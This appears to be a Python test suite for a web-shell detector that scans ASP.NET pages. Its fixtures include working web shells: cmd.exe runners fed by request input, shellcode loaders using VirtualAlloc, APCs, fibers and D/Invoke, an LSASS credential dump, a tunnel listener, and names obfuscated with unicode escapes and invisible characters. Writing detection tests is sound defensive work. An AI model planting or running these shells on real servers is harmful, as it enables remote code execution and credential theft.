"""A page's `<script runat=server>` members and its `<% %>` statements are one class: constants,
fields, methods and what they carry are shared between them. Small shells written for these
tests from published descriptions of split pages (the command runner in a script block, the
request read in an inline block), with benign look-alikes that must stay below medium."""

from __future__ import annotations

from code_support import chain_of, medium_or_above, run

SPLIT_RUNNER = """<%@ Page Language="C#" %>
<script runat="server">
string Run(string line) {
    var psi = new System.Diagnostics.ProcessStartInfo(Shell, "/c " + line);
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
}
const string Shell = "c" + "md" + ".exe";
</script>
<html><body><pre>
<%= Run(Request.QueryString["q"]) %>
</pre></body></html>"""


def test_statement_call_reaches_a_method_of_the_script_block() -> None:
    report = run("split.aspx", SPLIT_RUNNER)
    chain = chain_of(report, "EXH-WS-CODE-PROCESS")
    assert "query parameter 'q'" in chain
    assert "runs it as a command" in chain
    assert "cmd.exe" in report.folded  # the constant of the members, folded where it is used


FIELD_CARRIER = """<%@ Page Language="C#" %>
<script runat="server">
string target;
void Page_Load(object sender, EventArgs e) {
    if (target != null) { System.IO.File.Delete(target); }
}
</script>
<% target = Request.Form["f"]; %>"""


def test_field_set_in_a_statement_is_read_by_a_member() -> None:
    report = run("field.aspx", FIELD_CARRIER)
    chain = chain_of(report, "EXH-WS-CODE-FILE-MANAGE")
    assert "form field 'f'" in chain


BENIGN_SPLIT = """<%@ Page Language="C#" %>
<script runat="server">
string Tool = "C:\\\\Program Files\\\\Report\\\\render.exe";
string Render(string title) {
    System.Diagnostics.Process.Start(Tool, "--nightly");
    return Server.HtmlEncode(title);
}
</script>
<h1><%= Render(Request.QueryString["title"]) %></h1>"""


def test_benign_split_page_with_a_fixed_tool_stays_below_medium() -> None:
    # The request reaches the method, but not the process: its arguments are fixed.
    assert medium_or_above(run("report.aspx", BENIGN_SPLIT)) == []


# ----------------------------------------------------------------------------- Windows API directly

RUNNER = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr n, int type, int protect);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr attrs, UIntPtr stack, IntPtr start, IntPtr p, int flags, IntPtr id);
void Page_Load(object s, EventArgs e) {
    byte[] blob = new byte[] { 0x90, 0x90, 0xc3 };
    IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)blob.Length, 0x3000, 0x40);
    Marshal.Copy(blob, 0, mem, blob.Length);
    CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, IntPtr.Zero);
}
</script>"""


def test_shellcode_runner_declaring_windows_functions() -> None:
    report = run("runner.aspx", RUNNER)
    chain = chain_of(report, "EXH-WS-CODE-NATIVE-CODE")
    assert "declares VirtualAlloc by P/Invoke (with CreateThread)" in chain
    assert "runs code through the Windows API" in chain
    assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report)


VB_REVERSE = """<%@ Page Language="VB" %>
<script runat="server">
Declare Function WSASocket Lib "ws2_32.dll" (ByVal af As Integer, ByVal t As Integer, ByVal p As Integer, ByVal i As IntPtr, ByVal g As Integer, ByVal f As Integer) As IntPtr
Sub Page_Load(sender As Object, e As EventArgs)
    Dim s As IntPtr = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0)
End Sub
</script>"""


def test_vb_declare_of_a_socket_for_a_native_shell() -> None:
    chain = chain_of(run("rev.aspx", VB_REVERSE), "EXH-WS-CODE-NATIVE-CODE")
    assert "declares WSASocket by P/Invoke" in chain


BENIGN_NATIVE = """<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32")]
static extern bool GetDiskFreeSpaceEx(string dir, out ulong free, out ulong total, out ulong totalFree);
void CreateThread(string name) { Application["worker"] = name; }
void Page_Load(object s, EventArgs e) {
    ulong free, total, tf;
    GetDiskFreeSpaceEx(Server.MapPath("~/"), out free, out total, out tf);
    CreateThread("report");
}
</script>"""


def test_disk_space_by_p_invoke_and_a_method_named_like_the_api_are_not_reported() -> None:
    report = run("status.aspx", BENIGN_NATIVE)
    assert medium_or_above(report) == []
    assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities)


# Other published ways a native page runs or steals: memory and threads through the native API
# (NtAllocateVirtualMemory and an APC queued to the page's own thread), an executable heap run by
# a fiber or by a callback the system calls with the given pointer (EnumSystemLocales), a command
# under another account's password (CreateProcessWithLogonW), ShellExecute, and a dump of LSASS
# (MiniDumpWriteDump).
NATIVE_VARIANTS = {
    "apc.aspx": """[DllImport("ntdll.dll")] static extern uint NtAllocateVirtualMemory(IntPtr h, ref IntPtr b, IntPtr z, ref IntPtr size, uint t, uint p);
[DllImport("ntdll.dll")] static extern uint NtQueueApcThread(IntPtr th, IntPtr fn, IntPtr a1, IntPtr a2, IntPtr a3);
[DllImport("ntdll.dll")] static extern uint NtTestAlert();
[DllImport("kernel32.dll")] static extern IntPtr GetCurrentThread();
void Page_Load(object sender, EventArgs e) {
    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
    IntPtr b = IntPtr.Zero; IntPtr size = (IntPtr)sc.Length;
    NtAllocateVirtualMemory((IntPtr)(-1), ref b, IntPtr.Zero, ref size, 0x3000, 0x40);
    Marshal.Copy(sc, 0, b, sc.Length);
    NtQueueApcThread(GetCurrentThread(), b, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
    NtTestAlert();
}""",
    "fiber.aspx": """[DllImport("kernel32.dll")] static extern IntPtr HeapCreate(uint o, UIntPtr i, UIntPtr m);
[DllImport("kernel32.dll")] static extern IntPtr HeapAlloc(IntPtr h, uint f, UIntPtr s);
[DllImport("kernel32.dll")] static extern IntPtr ConvertThreadToFiber(IntPtr p);
[DllImport("kernel32.dll")] static extern IntPtr CreateFiber(uint s, IntPtr a, IntPtr p);
[DllImport("kernel32.dll")] static extern void SwitchToFiber(IntPtr f);
void Page_Load(object sender, EventArgs e) {
    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
    IntPtr m = HeapAlloc(HeapCreate(0x40000, UIntPtr.Zero, UIntPtr.Zero), 0, (UIntPtr)sc.Length);
    Marshal.Copy(sc, 0, m, sc.Length);
    ConvertThreadToFiber(IntPtr.Zero);
    SwitchToFiber(CreateFiber(0, m, IntPtr.Zero));
}""",
    "callback.aspx": """[DllImport("kernel32.dll")] static extern IntPtr VirtualAllocExNuma(IntPtr p, IntPtr a, uint s, uint t, uint pr, uint n);
[DllImport("kernel32.dll")] static extern bool EnumSystemLocalesA(IntPtr cb, uint flags);
void Page_Load(object sender, EventArgs e) {
    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
    IntPtr m = VirtualAllocExNuma(System.Diagnostics.Process.GetCurrentProcess().Handle, IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40, 0);
    Marshal.Copy(sc, 0, m, sc.Length);
    EnumSystemLocalesA(m, 0);
}""",
    "runas.aspx": """[StructLayout(LayoutKind.Sequential)] struct SI { public int cb; public IntPtr a, b, c; }
[StructLayout(LayoutKind.Sequential)] struct PI { public IntPtr hp, ht; public int pid, tid; }
[DllImport("advapi32.dll", CharSet = CharSet.Unicode)]
static extern bool CreateProcessWithLogonW(string user, string domain, string pass, int flags, string app, string cmd, int cf, IntPtr env, string dir, ref SI si, out PI pi);
void Page_Load(object sender, EventArgs e) {
    SI si = new SI(); si.cb = Marshal.SizeOf(si); PI pi;
    CreateProcessWithLogonW(Request.Form["u"], ".", Request.Form["p"], 1, null, "cmd.exe /c " + Request.Form["c"], 0, IntPtr.Zero, null, ref si, out pi);
}""",
    "shellexecute.aspx": """[DllImport("shell32.dll", CharSet = CharSet.Auto)]
static extern IntPtr ShellExecute(IntPtr hwnd, string op, string file, string args, string dir, int show);
void Page_Load(object sender, EventArgs e) {
    ShellExecute(IntPtr.Zero, "open", "cmd.exe", "/c " + Request["c"], null, 0);
}""",
    "dump.aspx": """[DllImport("dbghelp.dll")]
static extern bool MiniDumpWriteDump(IntPtr h, uint pid, SafeHandle file, uint type, IntPtr e, IntPtr u, IntPtr c);
void Page_Load(object sender, EventArgs e) {
    var p = System.Diagnostics.Process.GetProcessesByName("lsass")[0];
    using (var fs = new System.IO.FileStream(@"C:\\Windows\\Temp\\d.bin", System.IO.FileMode.Create)) {
        MiniDumpWriteDump(p.Handle, (uint)p.Id, fs.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
    }
}""",
}


def native_page(body: str) -> str:
    return (
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
        f'<script runat="server">\n{body}\n</script>\n'
    )


def test_native_api_fibers_callbacks_logon_shell_execute_and_dumps_are_native_code() -> None:
    for name, body in NATIVE_VARIANTS.items():
        report = run(name, native_page(body))
        assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report), name
    chain = chain_of(run("runas.aspx", native_page(NATIVE_VARIANTS["runas.aspx"])), "EXH-WS-CODE-NATIVE-CODE")
    assert "form field 'u'" in chain
    assert "declares CreateProcessWithLogonW by P/Invoke" in chain


def test_own_methods_named_like_those_functions_and_a_diagnostics_library_are_not_reported() -> None:
    page = native_page("""void ShellExecute(string verb, string file) { Application["last"] = verb + file; }
IntPtr HeapCreate(int size) { return IntPtr.Zero; }
void Page_Load(object s, EventArgs e) {
    ShellExecute("open", Request.QueryString["doc"]);
    HeapCreate(16);
}""")
    library = """using System;
using System.Runtime.InteropServices;
namespace Diagnostics {
    public static class Dumper {
        [DllImport("dbghelp.dll")]
        static extern bool MiniDumpWriteDump(IntPtr h, uint pid, SafeHandle file, uint type, IntPtr e, IntPtr u, IntPtr c);
        public static void DumpSelf(string path) {
            var p = System.Diagnostics.Process.GetCurrentProcess();
            using (var fs = System.IO.File.Create(path)) { MiniDumpWriteDump(p.Handle, (uint)p.Id, fs.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero); }
        }
    }
}"""
    for name, code in (("docs.aspx", page), ("Dumper.cs", library)):
        report = run(name, code)
        assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities), name
    assert medium_or_above(run("docs.aspx", page)) == []


# Dynamic invocation (the "D/Invoke" technique published for .NET tradecraft): the Windows
# function is not declared by a DllImport attribute the source shows, but built at run time,
# by emitting a P/Invoke stub into a dynamic assembly (`ModuleBuilder.DefinePInvokeMethod`) or by
# turning the address `GetProcAddress` returns into a delegate
# (`Marshal.GetDelegateForFunctionPointer`); the function names are usually hidden (base64 here).
EMITTED_STUB = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
static string N(string b) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(b)); }
static object Call(string lib, string fn, object[] args, Type ret, Type[] types) {
    var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run);
    var mb = ab.DefineDynamicModule("m");
    var stub = mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl,
        CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);
    mb.CreateGlobalFunctions();
    return mb.GetMethod(fn).Invoke(null, args);
}
void Page_Load(object s, EventArgs e) {
    byte[] blob = new byte[] { 0x90, 0x90, 0xc3 };
    var mem = (IntPtr)Call(N("a2VybmVsMzIuZGxs"), N("VmlydHVhbEFsbG9j"), new object[] { IntPtr.Zero, (uint)blob.Length, 0x3000u, 0x40u },
        typeof(IntPtr), new[] { typeof(IntPtr), typeof(uint), typeof(uint), typeof(uint) });
    Marshal.Copy(blob, 0, mem, blob.Length);
}
</script>"""


def test_windows_function_emitted_at_run_time_by_define_pinvoke_method() -> None:
    report = run("stager.aspx", EMITTED_STUB)
    chain = chain_of(report, "EXH-WS-CODE-NATIVE-CODE")
    assert "DefinePInvokeMethod" in chain
    assert "runs code through the Windows API" in chain
    assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report)


POINTER_DELEGATE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr LoadLibrary(string name);
[DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr module, string name);
delegate IntPtr Alloc(IntPtr a, uint n, uint type, uint protect);
void Page_Load(object s, EventArgs e) {
    IntPtr k = LoadLibrary("kernel32.dll");
    IntPtr p = GetProcAddress(k, "Virtual" + "Alloc");
    var alloc = (Alloc)Marshal.GetDelegateForFunctionPointer(p, typeof(Alloc));
    IntPtr mem = alloc(IntPtr.Zero, 4096, 0x3000, 0x40);
}
</script>"""


def test_windows_function_called_through_a_delegate_of_its_address() -> None:
    report = run("dinv.aspx", POINTER_DELEGATE)
    chain = chain_of(report, "EXH-WS-CODE-NATIVE-CODE")
    assert "GetDelegateForFunctionPointer" in chain and "GetProcAddress" in chain
    assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report)


BENIGN_EMIT = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
delegate int Adder(int a, int b);
[UnmanagedFunctionPointer(CallingConvention.Cdecl)] delegate int Progress(int done);
void Page_Load(object s, EventArgs e) {
    var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("calc"), AssemblyBuilderAccess.Run);
    var mb = ab.DefineDynamicModule("calc");
    var tb = mb.DefineType("Calc", TypeAttributes.Public);
    var add = tb.DefineMethod("Add", MethodAttributes.Public | MethodAttributes.Static, typeof(int), new[] { typeof(int), typeof(int) });
    var il = add.GetILGenerator();
    il.Emit(OpCodes.Ldarg_0); il.Emit(OpCodes.Ldarg_1); il.Emit(OpCodes.Add); il.Emit(OpCodes.Ret);
    var t = tb.CreateType();
    Result.Text = t.GetMethod("Add").Invoke(null, new object[] { 2, int.Parse(Request.QueryString["n"]) }).ToString();
    IntPtr cb = Marshal.GetFunctionPointerForDelegate(new Progress(d => d));
    var back = (Progress)Marshal.GetDelegateForFunctionPointer(cb, typeof(Progress));
}
</script>"""


def test_emitted_managed_code_and_a_delegate_of_a_managed_callback_are_not_native_code() -> None:
    report = run("calc.aspx", BENIGN_EMIT)
    assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities)
    assert "EXH-WS-CODE-NATIVE-CODE" not in medium_or_above(report)


# ----------------------------------------------------------------------------- unicode-escaped names

ESCAPED = """<%@ Page Language="C#" %>
<% System.Diagnostics.Process.Start("cmd.exe", "/c " + \\u0052\\u0065quest.\\u0046orm["\\u0078"]); %>"""


def test_names_spelled_with_unicode_escapes_are_read_as_the_compiler_reads_them() -> None:
    report = run("esc.aspx", ESCAPED)
    assert "form field 'x'" in chain_of(report, "EXH-WS-CODE-PROCESS")
    assert chain_of(report, "EXH-WS-CODE-HIDDEN-NAME") == "spells 'Request' with unicode escapes"
    assert "Request (unicode escapes)" in report.folded


BENIGN_ESCAPES = """<%@ Page Language="C#" %>
<% string title = "Caf\\u00e9 \\u2014 men\\u00fc"; Response.Write(Server.HtmlEncode(title)); %>"""


def test_escaped_accents_in_a_string_are_left_alone() -> None:
    report = run("menu.aspx", BENIGN_ESCAPES)
    assert medium_or_above(report) == []
    assert not any("unicode escapes" in f for f in report.folded)


# `"\\u0053ystem..."` is a backslash (written `\\`) and the text `u0053ystem...`, which
# Regex.Unescape turns into `System...`: the name must be folded from the string as written.
REGEX_ESCAPED = """<%@ Page Language="C#" %>
<% Type t = Type.GetType(System.Text.RegularExpressions.Regex.Unescape("\\\\u0053ystem.Diagnostics.Process"));
   t.GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] }); %>"""


def test_an_escaped_backslash_before_u_is_no_unicode_escape() -> None:
    assert '"\\\\u0053ystem' in REGEX_ESCAPED
    report = run("esc.aspx", REGEX_ESCAPED)
    assert "called by reflection as Process.Start" in chain_of(report, "EXH-WS-CODE-PROCESS")
    assert "System.Diagnostics.Process" in report.folded
    assert not any("unicode escapes" in f for f in report.folded)


# ----------------------------------------------------------------------------- PowerShell, listeners, controls

POWERSHELL = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
static string Ps(string script) {
    Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();
    Pipeline pipe = rs.CreatePipeline();
    pipe.Commands.AddScript(script);
    return pipe.Invoke().Count.ToString();
}
void Go(object s, EventArgs e) { Result.Text = Ps(Script.Text); }
</script>
<form runat="server">
<asp:TextBox ID="Script" runat="server" ToolTip="<type a command>" TextMode="MultiLine" />
<asp:Button ID="Run" runat="server" OnClick="Go" Text="Run" /><asp:Label ID="Result" runat="server" />
</form>"""


def test_powershell_script_from_a_page_control() -> None:
    # The control's ToolTip holds `<` and `>`: its declaration is still read.
    chain = chain_of(run("ps.aspx", POWERSHELL), "EXH-WS-CODE-PROCESS")
    assert "page control 'script'" in chain
    assert "runs it as a command (.AddScript)" in chain


BENIGN_POWERSHELL = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var ps = System.Management.Automation.PowerShell.Create();
    ps.AddScript("Get-Service W3SVC | Select-Object Status");
    Status.Text = ps.Invoke()[0].ToString();
}
</script><asp:Label ID="Status" runat="server" />"""


def test_fixed_powershell_status_script_is_not_reported() -> None:
    assert medium_or_above(run("status.aspx", BENIGN_POWERSHELL)) == []


LISTENER = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    int port = int.Parse(Request.QueryString.Get("port"));
    var l = new TcpListener(System.Net.IPAddress.Loopback, port);
    l.Start();
    Session["c"] = l.AcceptSocket();
    Socket c = (Socket)Session["c"];
    c.Send(Request.BinaryRead(Request.TotalBytes));
}
</script>"""


def test_tunnel_listening_on_a_port_the_request_names() -> None:
    report = run("listen.aspx", LISTENER)
    chains = [c.chain for c in report.capabilities if c.rule_id == "EXH-WS-CODE-TUNNEL"]
    assert any("query parameter 'port'" in c and "(new TcpListener)" in c for c in chains)
    assert any("the request body" in c and "(Socket.Send)" in c for c in chains)


BENIGN_SOCKET = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var c = new TcpClient("mail.example.org", 25);
    Socket sock = c.Client;
    sock.Send(System.Text.Encoding.ASCII.GetBytes("NOOP\\r\\n"));
    Health.Text = c.Connected ? "up" : "down";
}
</script><asp:Label ID="Health" runat="server" />"""


def test_fixed_health_check_socket_is_not_reported() -> None:
    assert medium_or_above(run("health.aspx", BENIGN_SOCKET)) == []


# ----------------------------------------------------------------------------- code-behind controls

CODE_BEHIND = """using System;
using System.Diagnostics;
public partial class Console : System.Web.UI.Page {
    protected global::System.Web.UI.WebControls.TextBox txtCmd;
    protected System.Web.UI.WebControls.Label lblOut;
    protected void Run_Click(object sender, EventArgs e) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + txtCmd.Text) { RedirectStandardOutput = true, UseShellExecute = false };
        lblOut.Text = Process.Start(psi).StandardOutput.ReadToEnd();
    }
}"""


def test_code_behind_knows_the_input_controls_it_declares() -> None:
    chain = chain_of(run("console.aspx.cs", CODE_BEHIND), "EXH-WS-CODE-PROCESS")
    assert "page control 'txtcmd' (TextBox.text)" in chain


BENIGN_CODE_BEHIND = """Imports System.Data.SqlClient
Partial Class Search
    Inherits System.Web.UI.Page
    Protected WithEvents txtQuery As System.Web.UI.WebControls.TextBox
    Protected Sub Go_Click(sender As Object, e As EventArgs)
        Using cn As New SqlConnection(ConfigurationManager.ConnectionStrings("main").ConnectionString)
            Dim cmd As New SqlCommand("SELECT Title FROM Docs WHERE Title LIKE @q", cn)
            cmd.Parameters.AddWithValue("@q", txtQuery.Text & "%")
            cn.Open()
        End Using
    End Sub
End Class"""


def test_code_behind_search_with_a_configured_connection_stays_below_medium() -> None:
    assert medium_or_above(run("search.aspx.vb", BENIGN_CODE_BEHIND)) == []


# ----------------------------------------------------------------------------- formatting characters in names

# Every letter escaped, with escaped formatting characters (U+200E, U+200D, U+FEFF) between
# them, and a literal zero-width non-joiner inside `Process`: the compiler drops both from names.
FORMATTED = (
    '<%@ Page Language="C#" %>\n'
    '<% System.Diagnostics.Pro\u200ccess.Start("cmd.exe", "/c " + '
    '\\u0052\\u200e\\u0065\\U0000200D\\u0071\\ufeff\\u0075\\u0065\\u0073\\u0074.Form["c"]); %>'
)


def test_formatting_characters_in_names_are_dropped_as_the_compiler_drops_them() -> None:
    report = run("fmt.aspx", FORMATTED)
    assert "form field 'c'" in chain_of(report, "EXH-WS-CODE-PROCESS")
    assert "Request (unicode escapes)" in report.folded
    assert "Process (formatting characters)" in report.folded
    hidden = [c.chain for c in report.capabilities if c.rule_id == "EXH-WS-CODE-HIDDEN-NAME"]
    assert "spells 'Request' with unicode escapes" in hidden
    assert "spells 'Process' with invisible formatting characters between its letters" in hidden


# Right-to-left marks and joiners are ordinary text in strings of localized pages.
BENIGN_FORMATTED = (
    '<%@ Page Language="C#" %>\n'
    '<% string greeting = "\\u200f\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd"; '
    'string family = "\U0001f468\u200d\U0001f469"; '
    "Response.Write(Server.HtmlEncode(greeting + family)); %>"
)


def test_marks_and_joiners_in_strings_stay_quiet() -> None:
    report = run("hello.aspx", BENIGN_FORMATTED)
    assert medium_or_above(report) == []
    assert all(c.rule_id != "EXH-WS-CODE-HIDDEN-NAME" for c in report.capabilities)
